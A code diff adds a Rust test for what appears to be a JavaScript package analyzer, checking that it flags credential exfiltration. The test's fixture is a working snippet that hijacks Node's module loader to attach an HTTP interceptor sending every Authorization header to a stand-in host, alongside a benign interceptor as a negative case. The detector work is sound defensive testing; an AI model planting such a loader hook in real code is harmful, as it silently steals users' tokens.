@@ -1589,3 +1589,51 @@ ask.question('Password: ', (answer) => {
         facts(src)
     );
 }
+
+#[test]
+fn request_interceptors_and_loader_hooks_that_copy_credentials() {
+    // The module loader replaced; the client it hands out gets an interceptor that posts
+    // every Authorization header to another host.
+    let hooked = r#"
+const Module = require('module');
+const http = require('http');
+function report(what) {
+  const req = http.request({ host: 'gather.invalid', method: 'PUT', path: '/h' });
+  req.end(JSON.stringify(what));
+}
+const load = Module.prototype.require;
+Module.prototype.require = function (name) {
+  const lib = load.apply(this, arguments);
+  if (name === 'got-like' && lib.interceptors) {
+    lib.interceptors.request.use(function (cfg) {
+      report({ to: cfg.url, token: cfg.headers.Authorization });
+      return cfg;
+    });
+  }
+  return lib;
+};
+"#;
+    // The header handed to the file's sender, where the module's code runs; the
+    // package joins the two (a secret exfiltration at import time).
+    let f = javascript::analyze(hooked, "index.js");
+    assert!(!f.param_sends.is_empty(), "{:?}", f.param_sends);
+    assert!(
+        f.secret_calls
+            .iter()
+            .any(|c| c.callee == "report" && c.top_level),
+        "{:?}",
+        f.secret_calls
+    );
+    // An interceptor that adds the application's own token: nothing is sent elsewhere.
+    let adds = r#"
+const axios = require('axios');
+const api = axios.create({ baseURL: 'https://api.invalid' });
+api.interceptors.request.use((config) => {
+  config.headers.Authorization = 'Bearer ' + process.env.API_TOKEN;
+  console.debug('request', config.method, config.url, config.headers);
+  return config;
+});
+module.exports = api;
+"#;
+    assert!(!kinds(adds).contains(&K::SecretExfiltration), "{:?}", facts(adds));
+}
